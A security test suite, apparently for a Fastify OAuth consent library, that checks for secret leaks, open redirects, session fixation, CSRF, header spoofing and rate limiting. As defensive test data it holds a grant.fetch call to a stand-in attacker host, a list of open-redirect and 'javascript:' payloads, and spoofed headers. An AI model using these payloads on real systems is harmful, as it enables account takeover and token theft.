import { consent, signIn } from '@consentry/testing'
import Fastify from 'fastify'
import { inspect } from 'node:util'
import t from 'tap'
import consentry from '../src/index.ts'
import { answerUpToCallback, call, codeOf, pendingOf, readEvents, secret, startReport, startServer, statusOf, type Status } from './server.ts'

t.test('B17 no secret in a log line, an event, an error, a page or a URL other than the redirect itself', async (t) => {
  const server = await startServer(t)
  const alice = await server.browser('alice')
  const seen: string[] = []
  const denied = await startReport(alice, server)
  await alice.open(await answerUpToCallback(alice, server, pendingOf(denied).connectUrl, 'deny'))
  const failing = await startReport(alice, server)
  server.op.fail('token', 'html')
  seen.push((await alice.open(await answerUpToCallback(alice, server, pendingOf(failing).connectUrl))).text)
  server.op.fail('token')

  const started = await startReport(alice, server)
  const question = await alice.open(pendingOf(started).connectUrl)
  const result = await alice.open(await answerUpToCallback(alice, server, pendingOf(started).connectUrl))
  await statusOf(alice, server, started.executionId, ({ status }) => status === 'completed')
  seen.push(question.text, result.url, result.text, (await readEvents(alice, server, started.executionId)).text)
  for (const path of ['/auth/connections', '/auth/userinfo', `/executions/${started.executionId}`]) seen.push((await call(alice, server, path)).text)
  const own = server.app.consentry
  seen.push(JSON.stringify(own.providers), String(server.app.log.info({ providers: own.providers }, 'providers')))

  const session = alice.cookies(server.url).find(({ name }) => name.endsWith('session'))?.value ?? ''
  const states = alice.history.map(({ url }) => new URL(url).searchParams.get('state')).filter((state) => state !== null)
  const bindings = alice.history.flatMap(({ setCookie }) => setCookie).map((cookie) => /flow-[^=]+=\d+\.([\w-]{20,})/.exec(cookie)?.[1]).filter((value) => value !== undefined)
  t.ok(states.length > 3 && bindings.length > 3)
  const canaries = [...server.op.ledger.secrets, ...states, ...bindings, session, secret, 'secret-of-corp', 'secret-of-calendar']
  t.ok(canaries.length > 15, 'codes, verifiers, tokens of all kinds, states, cookies, client secrets')
  for (const canary of canaries) {
    const where = server.log.lines().find((line) => JSON.stringify(line).includes(canary))
    t.equal(where, undefined, 'not logged')
    t.notOk(seen.some((text) => text.includes(canary)), 'not shown')
  }
  for (const { url } of alice.history) {
    const { origin, pathname } = new URL(url)
    if (origin === server.url && pathname.startsWith('/auth/callback/')) continue
    for (const canary of [...server.op.ledger.secrets, ...bindings, session]) t.notOk(url.includes(canary), 'not in a URL')
  }
})

t.test('B17 what an application throws or logs of a grant shows no token', async (t) => {
  const server = await startServer(t, {
    routes: (app) => {
      app.post('/leak', { config: { auth: true } }, async (request, reply) => reply.execution(async (execution) => {
        const grant = await execution.authorize('calendar', { scopes: ['calendar.read'] })
        request.log.info({ grant }, `have ${inspect(grant)}`)
        await grant.fetch('http://attacker.example/').catch((err: unknown) => request.log.error({ err }, 'refused'))
        throw new Error('a detail of the application that nobody outside should read')
      }))
    }
  })
  const alice = await server.browser('alice')
  const started = await startReport(alice, server, '/leak')
  await alice.open(await answerUpToCallback(alice, server, pendingOf(started).connectUrl))
  const ended = await statusOf(alice, server, started.executionId, ({ status }) => status === 'failed')
  t.same(ended.error, { code: 'CONSENTRY_ERR_EXECUTION_FAILED', message: 'The execution failed.' })
  t.match(server.log.text(), /redacted/)
  t.match(server.log.text(), /a detail of the application/, 'who runs the server reads it')
  for (const token of server.op.ledger.secrets) t.notOk(server.log.text().includes(token))
})

t.test('B17 an answer that goes to another spelling of the redirect URI is not logged either', async (t) => {
  const server = await startServer(t)
  for (const [method, path] of [
    ['GET', '/auth/callback/corp/'], ['GET', '/auth/callback/corp/x'], ['GET', '/auth/Callback/corp'], ['GET', '/auth/callback'], ['POST', '/auth/callback/corp'],
    ['OPTIONS', '/auth/callback/corp'], ['HEAD', '/auth/callback/corp'], ['GET', '/auth/callback/nobody']
  ] as const) {
    const answer = await fetch(`${server.url}${path}?code=canary-of-the-code&state=canary-of-the-state`, { method })
    t.equal(answer.status, 404, `${method} ${path}`)
  }
  t.notMatch(server.log.text(), 'canary')
})

t.test('B18 every page of the flow is stored nowhere, tells the next site nothing, and cannot be framed', async (t) => {
  const server = await startServer(t)
  const alice = await server.browser('alice')
  const started = await startReport(alice, server)
  const { connectUrl } = pendingOf(started)
  const question = await alice.open(connectUrl)
  await consent(await question.submit({}, { button: `Continue to ${new URL(server.op.issuer).host}` }), 'allow')
  const own = await Promise.all([
    `${server.url}/auth/login?return_to=/`, `${server.url}/auth/login/corp`, `${server.url}/auth/callback/corp?state=x`, connectUrl,
    `${server.url}/auth/connect/unknown`, `${server.url}/auth/login?return_to=//evil.example`
  ].map((url) => call(alice, server, url, { headers: { accept: 'text/html' } })))
  for (const { status, headers } of [...own, { status: 200, headers: question.headers }]) {
    t.equal(headers.get('cache-control'), 'no-store')
    t.equal(headers.get('referrer-policy'), 'no-referrer')
    if (status === 303) continue
    const policy = headers.get('content-security-policy') ?? ''
    t.match(policy, /default-src 'none'.*frame-ancestors 'none'/)
    t.notMatch(policy, /unsafe-inline/)
    t.equal(headers.get('x-content-type-options'), 'nosniff')
  }
})

t.test('B18 T4 return paths lead to our own origin or are refused', async (t) => {
  const server = await startServer(t)
  const browser = await server.browser()
  const page = await signIn(await browser.open(`${server.url}/auth/login?return_to=${encodeURIComponent('/?tab=reports#top')}`), 'alice')
  t.equal(page.url, `${server.url}/?tab=reports#top`)
  for (const hostile of [
    '//evil.example', '///evil.example', '/\\evil.example', '\\\\evil.example', 'https://evil.example', 'https:evil.example', 'javascript:alert(1)',
    '/\t/evil.example', '/\r\n/evil.example', ' //evil.example', '/%09/evil.example/..//evil.example', 'evil.example', '/..//evil.example',
    `/${'x'.repeat(3000)}`, '/\u0000', `${server.url}.evil.example/`, 'http://user@evil.example/'
  ]) {
    for (const path of ['/auth/login', '/auth/login/corp']) {
      const answer = await fetch(`${server.url}${path}?${new URLSearchParams({ return_to: hostile }).toString()}`, { redirect: 'manual', headers: { accept: 'text/html' } })
      const location = answer.headers.get('location')
      if (answer.status === 400) t.equal(codeOf({ text: await answer.text() }), 'CONSENTRY_ERR_RETURN_TO_INVALID', JSON.stringify(hostile).slice(0, 60))
      else t.ok(new URL(location ?? '', server.url).origin === server.url || new URL(location ?? '').origin === server.op.issuer, `${JSON.stringify(hostile)} leads to ${location}`)
    }
  }
  const encoded = await server.browser()
  const landed = await signIn(await encoded.open(`${server.url}/auth/login?return_to=${encodeURIComponent('/%2f%2fevil.example')}`), 'alice')
  t.equal(new URL(landed.url).origin, server.url, 'what stays encoded stays a path')
})

t.test('B19 the session id changes at login and ends at logout', async (t) => {
  const server = await startServer(t)
  const browser = await server.browser()
  browser.setCookie('__Host-consentry-session=chosen-by-an-attacker; Path=/; Secure; HttpOnly', server.url)
  await signIn(await browser.open(`${server.url}/auth/login`), 'alice')
  const sessionOf = (): string => browser.cookies(server.url).find(({ name }) => name.endsWith('session'))?.value ?? ''
  const first = sessionOf()
  t.not(first, 'chosen-by-an-attacker')
  t.ok(Buffer.from(first, 'base64url').length >= 32, '256 bits')

  await browser.open(`${server.url}/auth/login`)
  const second = sessionOf()
  t.not(second, first, 'new at every login')
  const withSession = (value: string) => fetch(`${server.url}/auth/userinfo`, { headers: { cookie: `__Host-consentry-session=${value}` } })
  t.equal((await withSession(first)).status, 401, 'and the old one is over')
  t.equal((await withSession(second)).status, 200)

  const out = await call(browser, server, '/auth/logout', { method: 'POST' })
  t.match(out.json(), { redirectTo: `${server.op.issuer}/logout?` })
  t.match(out.headers.get('set-cookie'), /__Host-consentry-session=;.*(Max-Age=0|Expires=Thu, 01 Jan 1970)/)
  t.equal((await withSession(second)).status, 401)
  t.same((await (await fetch(`${server.url}/auth/status`, { headers: { cookie: `__Host-consentry-session=${second}` } })).json()), { authenticated: false }, 'status never answers 401')
})

t.test('B19 B4 a login finished in another browser signs nobody in', async (t) => {
  const server = await startServer(t)
  const attacker = await server.browser()
  const stopped = await signIn(await attacker.open(`${server.url}/auth/login`), 'bob', { stopAt: (url) => url.pathname.startsWith('/auth/callback/') })
  const victim = await server.browser()
  const page = await victim.open(stopped.next ?? '')
  t.equal(codeOf(page), 'CONSENTRY_ERR_BINDING_MISMATCH')
  t.same(victim.cookies(server.url).filter(({ name }) => name.endsWith('session')), [])
})

t.test('T1 a session cookie that is there twice counts for neither', async (t) => {
  const server = await startServer(t)
  const alice = await server.browser('alice')
  const value = alice.cookies(server.url).find(({ name }) => name.endsWith('session'))?.value ?? ''
  const name = '__Host-consentry-session'
  for (const cookie of [`${name}=${value}; ${name}=${value}`, `${name}=x; ${name}=${value}`]) {
    t.equal((await fetch(`${server.url}/auth/userinfo`, { headers: { cookie } })).status, 401)
  }
})

t.test('T2 the cookie of a flow is no session', async (t) => {
  const server = await startServer(t)
  const browser = await server.browser()
  await browser.open(`${server.url}/auth/login/corp`, { stopAt: (url) => url.origin !== server.url })
  const [flow] = browser.cookies(server.url)
  for (const value of [flow?.value ?? '', flow?.value.split('.')[1] ?? '']) {
    t.equal((await fetch(`${server.url}/auth/userinfo`, { headers: { cookie: `__Host-consentry-session=${value}` } })).status, 401)
  }
})

t.test('T3 a session counts only for requests of our own pages', async (t) => {
  const server = await startServer(t)
  const alice = await server.browser('alice')
  const cookie = alice.cookieHeader(server.url)
  for (const [path, method] of [['/auth/logout', 'POST'], ['/report', 'POST'], ['/auth/connections/calendar', 'DELETE']] as const) {
    for (const headers of [
      { origin: 'https://evil.example' }, { origin: 'http://localhost' }, { origin: 'null' },
      { 'sec-fetch-site': 'cross-site' }, { 'sec-fetch-site': 'same-site', origin: 'null' }
    ] as Array<Record<string, string>>) {
      const answer = await fetch(server.url + path, { method, headers: { cookie, ...headers } })
      t.equal(answer.status, 403, `${method} ${path} from ${JSON.stringify(headers)}`)
      t.equal(codeOf({ text: await answer.text() }), 'CONSENTRY_ERR_CROSS_ORIGIN')
    }
  }
  t.equal((await call(alice, server, '/auth/userinfo')).status, 200, 'still signed in')

  const started = await startReport(alice, server)
  const question = await alice.open(pendingOf(started).connectUrl)
  const token = /name="_csrf" value="([^"]+)"/.exec(question.text)?.[1] ?? ''
  const bob = await server.browser('bob')
  const bobs = await startReport(bob, server)
  const foreign = /name="_csrf" value="([^"]+)"/.exec((await bob.open(pendingOf(bobs).connectUrl)).text)?.[1] ?? ''
  const other = await startReport(alice, server)
  t.equal(pendingOf(other).flowId, pendingOf(started).flowId, 'one question for both runs')
  for (const csrf of [undefined, '', 'x', foreign, token.slice(1)]) {
    const body = new URLSearchParams({ answer: 'decline', ...(csrf !== undefined && { _csrf: csrf }) })
    const answer = await call(alice, server, pendingOf(started).connectUrl, { method: 'POST', body })
    t.equal(answer.status, 403, 'the form needs the token of this session and this question')
  }
  t.match(await statusOf(alice, server, started.executionId), { status: 'oauth_required' })
})

t.test('T5 Host and X-Forwarded-* build no URL', async (t) => {
  const server = await startServer(t)
  for (const hostile of [{ host: 'evil.example' }, { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', forwarded: 'host=evil.example;proto=https' }] as Array<Record<string, string>>) {
    const alice = await server.browser('alice')
    const csrfToken = (await call(alice, server, '/auth/status')).json<{ csrfToken: string }>().csrfToken
    const ask = async (method: 'GET' | 'POST', url: string, accept: string): Promise<string> => {
      const { headers, body } = await server.app.inject({ method, url, headers: { cookie: alice.cookieHeader(server.url), origin: server.url, 'x-csrf-token': csrfToken, accept, ...hostile } })
      const answer = decodeURIComponent(JSON.stringify(headers)) + body
      t.notMatch(answer, 'evil', `${method} ${url} with ${Object.keys(hostile).join()}`)
      return answer
    }
    t.match(await ask('GET', '/auth/login/corp', 'text/html'), `redirect_uri=${server.url}/auth/callback/corp`)
    t.match(await ask('GET', '/auth/login', 'text/html'), '/auth/login/corp?')
    const { connectUrl } = pendingOf(JSON.parse(/\{"executionId".*$/.exec(await ask('POST', '/report', 'application/json'))?.[0] ?? '{}') as Status)
    t.equal(new URL(connectUrl).origin, server.url)
    t.match(await ask('GET', new URL(connectUrl).pathname, 'text/html'), 'Connect')
    await ask('GET', '/report-that-is-not-there', 'text/html')
    t.match(decodeURIComponent(await ask('POST', '/auth/logout', 'application/json')), `post_logout_redirect_uri=${server.url}/`)
  }
})

t.test('T16 who asks too often waits, told how long; others do not', async (t) => {
  const server = await startServer(t, { options: { rateLimit: { max: 5, timeWindow: 2_000 } } })
  await new Promise((resolve) => setTimeout(resolve, 2_000 - Date.now() % 2_000))
  const start = () => fetch(`${server.url}/auth/login/corp`, { redirect: 'manual', headers: { accept: 'application/json' } })
  const answers = await Promise.all(Array.from({ length: 8 }, start))
  t.equal(answers.filter(({ status }) => status === 303).length, 5)
  t.equal(answers.filter(({ status }) => status === 429).length, 3)
  const refused = answers.find(({ status }) => status === 429)
  t.match(refused?.headers.get('retry-after'), /^[12]$/)
  t.match(await refused?.json(), { code: 'CONSENTRY_ERR_TOO_MANY_REQUESTS', retryable: true })
  t.equal((await fetch(`${server.url}/auth/callback/corp?state=x`)).status, 429, 'one count for all of them')
  t.equal((await fetch(`${server.url}/auth/status`)).status, 200)
  const page = await fetch(`${server.url}/auth/login/corp`, { redirect: 'manual', headers: { accept: 'text/html' } })
  t.match(await page.text(), /Too much at once/)
  await new Promise((resolve) => setTimeout(resolve, 2_000))
  t.equal((await start()).status, 303)
})

t.test('a server that did not listen yet behaves the same under inject', async (t) => {
  const app = Fastify()
  t.teardown(() => app.close())
  await app.register(consentry, { baseUrl: 'https://app.example.com', secret, providers: {}, login: [] })
  app.get('/me', { config: { auth: true } }, async (request) => request.userInfo)
  const answer = await app.inject('/me')
  t.equal(answer.statusCode, 401)
  t.equal(answer.headers['www-authenticate'], 'Bearer')
  t.match(answer.headers['content-type'], 'application/problem+json')
  t.match(answer.json(), { code: 'CONSENTRY_ERR_AUTHENTICATION_REQUIRED', status: 401, title: 'Sign in first.' })
  t.equal((await app.inject({ url: '/auth/status' })).body, '{"authenticated":false}')
  t.equal((await app.inject({ url: '/auth/login', headers: { accept: 'text/html' } })).statusCode, 404)
})
